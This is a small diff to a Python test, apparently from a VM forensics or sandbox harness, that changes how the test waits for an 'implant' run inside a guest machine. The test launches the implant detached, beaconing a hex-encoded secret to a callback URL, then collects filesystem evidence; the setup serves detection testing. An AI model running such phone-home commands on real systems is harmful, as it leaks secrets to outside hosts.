@@ -76,8 +76,8 @@ def test_program_writes_deletes_and_phones_home(
         guest.shell(
             f"setsid python3 /root/implant.py http://10.0.2.2:{port}/beacon "
             f"{secret.encode().hex()} > /root/implant.out 2>&1 &"
-            " for i in $(seq 100); do grep -q done /root/implant.out && break; sleep 0.2; done"
         ).check()
+        guest.wait_until_succeeds("grep -q done /root/implant.out", timeout=30)
         diff = guest.fs_snapshot("/home", hash=True).diff(before)
         manifest = adare_vm.collect_evidence(adare_artifacts / "bundle", fs_diff=diff)
 
